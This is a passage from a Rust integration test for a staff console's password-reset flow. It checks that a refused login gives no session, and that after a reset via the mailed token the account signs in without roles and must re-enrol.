            ("email", "made@fjordlys.example"),
            ("password", "the admin's choice"),
        ])
        .send()
        .await
        .unwrap();
    assert!(set_cookie(&refused, "portal_staff").is_none());
    post(
        &app,
        "/_sfn/console/forgot_password",
        &[("email", "made@fjordlys.example")],
    )
    .await;
    let path = mailed_path(&app, "made@fjordlys.example", "/console/reset/").await;
    let token = path.rsplit('/').next().unwrap();
    let reset = post(
        &app,
        "/_sfn/console/reset_password",
        &[
            ("token", token),
            ("new_password", "my own at last, long"),
            ("repeat", "my own at last, long"),
        ],
    )
    .await;
    assert_eq!(location(&reset), "/console/login?done=reset");
    let LoginStep::SignedIn(session) = app
        .service
        .accounts
        .staff_login("made@fjordlys.example", "my own at last, long", &client())
        .await
        .unwrap()
    else {
        panic!("its second factor was taken away")
    };
    let member = app.service.accounts.staff_member(&session).await.unwrap();
    assert!(
        member.must_enrol && member.roles.is_empty(),
        "it enrols before it reaches anything"
    );
}
